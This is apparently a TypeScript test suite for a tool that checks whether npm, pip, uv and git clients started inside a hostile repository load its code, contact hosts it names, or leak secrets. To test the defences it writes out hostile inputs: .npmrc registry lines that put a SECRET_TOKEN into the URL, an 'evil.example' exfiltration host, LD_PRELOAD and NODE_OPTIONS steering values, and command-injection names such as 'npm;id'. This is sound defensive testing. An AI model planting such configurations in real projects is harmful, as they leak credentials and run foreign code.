/** Package clients in a hostile repository: how they are started, what they are given, whom they contact. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { basename, delimiter, isAbsolute, join } from 'node:path';
import { describe, it } from 'node:test';
import { clientEnvironment } from '../../server/src/platform/clientEnvironment';
import { findProgram, foreignFolders } from '../../server/src/platform/findProgram';
import { runProcess } from '../../server/src/platform/runProcess';
import { canAsk } from '../cli/onlineSources';
import { program } from '../cli/program';
import { canary, hostileField, type Started, threats } from './field';
import { marks, write } from './threats';
import { type WatchedRun, watch } from './watch';

const unix = { skip: process.platform === 'win32' ? 'SKIPPED: placeholders are programs of Unix' : false };

/** Those that are about clients, and what the environment points to. */
const chosen = threats.filter(({ id }) => !id.startsWith('git-') || /promisor|fsmonitor|ssh|external/.test(id));

describe('package clients', unix, () => {
  const field = hostileField(chosen);
  const at = (id: string) => field.grounds.find(({ folder }) => basename(folder) === id)!;
  const isForeign = (text: string) => text.includes(join(field.root, 'hostile'));

  const started = (): Started[] => {
    if (!existsSync(field.log)) return [];
    const lines = readFileSync(field.log, 'utf8').trim().split('\n');
    rmSync(field.log);
    return lines.map((line) => JSON.parse(line) as Started);
  };
  const online = (folders: readonly string[], ...words: string[]): Promise<WatchedRun> => {
    const args = [program(), 'pin', '--online', '--dry-run', ...words, ...folders];
    return watch([process.execPath, ...args], { cwd: field.root, env: field.env });
  };

  it('are the person’s own, in an empty folder of their own, with an environment that leads nowhere else', async () => {
    const folders = ['npm-corepack', 'pip-module', 'git-fsmonitor'].map((id) => at(id).folder);
    const run = await online(folders);
    assert.equal(run.code, 1, run.err);
    assert.deepEqual(marks(at('git-fsmonitor')), []);
    assert.deepEqual(run.contacted, []);
    const starts = started();
    const names = new Set(starts.map((start) => basename(start.program)));
    assert.deepEqual(names, new Set(['npm', 'pip', 'uv', 'docker', 'podman', 'skopeo', 'crane', 'git']));
    if (run.isTraced) {
      assert.equal(run.started.length, starts.length);
      for (const call of run.started) assert.ok(call.startsWith(`"${field.root}/bin/`), call);
    }
    for (const { program: file, args, cwd, mode, files, env } of starts) {
      assert.equal(file, join(field.root, 'bin', basename(file)));
      assert.deepEqual({ files, mode, isThere: existsSync(cwd) }, { files: [], mode: 0o700, isThere: false });
      assert.ok(!isForeign(cwd) && !args.some((word) => isForeign(word) || word.includes(canary)), args.join(' '));
      // A value of the person's that steers nothing stays, for their own settings may refer to it.
      assert.equal(env['SECRET_TOKEN'], canary);
      assert.deepEqual(
        Object.entries(env).filter(([, value]) => isForeign(value)),
        [],
      );
      for (const entry of env['PATH']!.split(delimiter)) assert.ok(isAbsolute(entry) && !isForeign(entry), entry);
    }
    const wordsOf = (name: string) =>
      starts.filter((start) => basename(start.program) === name).map(({ args }) => args);
    for (const args of wordsOf('uv'))
      assert.deepEqual([args[0], args[args.indexOf('--python') + 1]], ['--no-config', join(field.root, 'bin/python3')]);
    for (const args of wordsOf('npm')) assert.ok(args.includes('--prefix=.'));
  });

  it('are given no variable that loads code, and none that names the repository', () => {
    const foreign = foreignFolders(field.folders);
    const env = clientEnvironment(field.env, foreign, '/private');
    assert.deepEqual(
      Object.keys(field.env).filter((name) => name in env && env[name] === field.env[name] && name !== 'HOME'),
      ['SECRET_TOKEN'],
    );
    const own = {
      ...{
        HTTPS_PROXY: 'http://proxy',
        NPM_CONFIG_REGISTRY: 'https://own.example/',
        PIP_INDEX_URL: 'https://own.example/',
      },
      ...{ NODE_EXTRA_CA_CERTS: '/etc/own.pem', GIT_SSL_CAINFO: '/etc/own.pem', XDG_CONFIG_HOME: '/home/me/.config' },
    };
    const steering = { NODE_OPTIONS: '-r x', LD_PRELOAD: 'x.so', GIT_EXEC_PATH: '/x', PYTHONHOME: '/x', BASH_ENV: 'x' };
    const given = clientEnvironment(
      { ...own, ...steering, npm_config_registry: 'https://own.example/' },
      foreign,
      '/p',
    );
    for (const [name, value] of Object.entries(own)) assert.equal(given[name], value, name);
    for (const name of Object.keys(steering)) assert.equal(given[name], undefined, name);
    assert.equal(given['npm_config_registry'], 'https://own.example/');
    // Started by npm in the project, what npm hands on may be what the project says.
    const handedOn = { npm_execpath: '/usr/lib/npm-cli.js', npm_config_registry: `https://evil.example/${canary}` };
    assert.deepEqual(
      Object.values(clientEnvironment(handedOn, foreign, '/p')).filter((value) => value.includes(canary)),
      [],
    );
  });

  it('are not found in the repository, in a relative folder, or behind a link into it', () => {
    const foreign = foreignFolders(field.folders);
    const find = (PATH: string) => findProgram('npm', foreign, { env: { PATH } });
    for (const entry of [
      '.',
      '',
      'bin',
      `${at('programs-in-bin').folder}/node_modules/.bin`,
      `${at('program-linked').outside}/bin`,
    ]) {
      assert.equal(find(entry), undefined, entry);
      assert.equal(find([entry, join(field.root, 'bin')].join(delimiter)), join(field.root, 'bin/npm'));
    }
    // Without the folders that are foreign, those programs would be taken.
    assert.match(findProgram('npm', [], { env: field.env }) ?? '', /hostile/);
    for (const name of ['../npm', 'npm;id', '--npm', '']) assert.equal(findProgram(name, []), undefined);
  });

  it('ask no host that the repository names before the person says so', async () => {
    const { folder } = at('npm-settings');
    const entry = (name: string) => ({ command: 'npx', args: ['-y', name] });
    const servers = { a: entry('left-pad-server'), b: entry('@hostile/server') };
    write(folder, { '.mcp.json': JSON.stringify({ mcpServers: servers }), '.cursor/mcp.json': '{"mcpServers":{}}' });
    const named = async (npmrc: string, ...words: string[]) => {
      write(folder, { '.npmrc': npmrc });
      const run = await online([folder], ...words);
      const asked = started().filter((start) => basename(start.program) === 'npm');
      return {
        out: run.err + run.out,
        // Clients are asked side by side.
        asked: asked
          .map(({ args }) => args.filter((word) => word.includes('registry')))
          .sort((a, b) => a.length - b.length),
      };
    };
    const plain = 'registry = https://packages.hostile.example/npm/\n';
    const refused = await named(plain);
    assert.deepEqual(refused.asked, []);
    assert.match(
      refused.out,
      /packages\.hostile\.example was named for it .* With --allow-host packages\.hostile\.example/,
    );
    const allowed = await named(plain, '--allow-host', 'packages.hostile.example');
    const option = '--registry=https://packages.hostile.example/npm/';
    assert.deepEqual(allowed.asked, [[option], [option, option.replace('--', '--@hostile:')]]);
    for (const hidden of [
      'registry=https://x.example/${SECRET_TOKEN}/',
      'registry=${SECRET_TOKEN}',
      'registry=https://me:it@x.example/',
    ]) {
      const { asked, out } = await named(`${hidden}\n`, '--allow-host', 'x.example');
      assert.deepEqual(asked, []);
      assert.match(out, /the registry named for it is not a plain https address/);
      assert.ok(!out.includes(canary));
    }
    assert.equal((await named('@hostile:registry=https://x.example/\n')).asked.length, 1);
    const server = { command: 'npx', args: ['-y', '--registry', 'https://y.example/', 'left-pad-server'] };
    write(folder, { '.mcp.json': JSON.stringify({ mcpServers: { server } }) });
    assert.match((await named('')).out, /y\.example was named for it/);
  });
});

describe('the real clients', unix, () => {
  const field = hostileField(chosen);
  const at = (id: string) => field.grounds.find(({ folder }) => basename(folder) === id)!;

  it('run nothing of the repository', async (t) => {
    // Each of these runs the payload when it is started in the folder; see "payloads" beside this file.
    const commands = [
      ['python3', ['-I', '-m', 'pip', '--version'], 'pip-module'],
      ['python3', ['-m', 'pip', '--version'], 'pip-module'],
      ['uv', ['--no-config', '--project', '.', 'pip', 'compile', '--offline', '--no-deps', '-'], 'uv-settings'],
      ['npm', ['view', '--offline', '--prefix=.', 'left-pad', 'version'], 'npm-settings'],
      ['git', ['ls-files', '--cached'], 'git-promisor'],
    ] as const;
    for (const [name, args, id] of commands) {
      const result = await runProcess(name, args, { folders: [at(id).folder], input: 'left-pad\n' });
      if (result.why === 'missing') t.diagnostic(`SKIPPED: ${name} is not here`);
      assert.deepEqual(marks(at(id)), []);
    }
  });

  const npm = canAsk('npm', ['--version']);
  it('send no secret to a registry of the repository', { skip: npm ? false : 'SKIPPED: npm is not here' }, async () => {
    const { folder } = at('npm-settings');
    const { server, requests } = await listening();
    const address = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    write(folder, { '.npmrc': `registry=http://${address}/\${SECRET_TOKEN}/\n` });
    const env = { PATH: process.env.PATH!, HOME: field.home, SECRET_TOKEN: canary, npm_config_fetch_retries: '0' };
    try {
      await end(spawn('npm', ['view', 'left-pad-server', 'version'], { cwd: folder, env, stdio: 'ignore' }));
      assert.ok(requests.includes(`/${canary}/left-pad-server`), 'the attack does not work undefended');
      requests.length = 0;
      // The person's own registry is a port where nobody answers.
      const run = { ...env, npm_config_registry: 'http://127.0.0.1:1/' };
      mkdirSync(join(folder, 'only/.cursor'), { recursive: true });
      const entry = { command: 'npx', args: ['-y', 'left-pad-server'] };
      writeFileSync(join(folder, 'only/.cursor/mcp.json'), JSON.stringify({ mcpServers: { entry } }));
      write(folder, { 'only/.npmrc': `registry=http://${address}/\${SECRET_TOKEN}/\n` });
      const words = ['pin', '--online', '--allow-host', address, join(folder, 'only')];
      const done = await watch([process.execPath, program(), ...words], { cwd: folder, env: run });
      assert.deepEqual([done.code, requests], [1, []], done.err);
    } finally {
      server.close();
    }
  });
});

async function listening(): Promise<{ server: Server; requests: string[] }> {
  const requests: string[] = [];
  const server = createServer(({ url }, response) => {
    requests.push(String(url));
    response.writeHead(404).end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, requests };
}

function end(child: ReturnType<typeof spawn>): Promise<unknown> {
  return new Promise((resolve) => child.once('close', resolve));
}
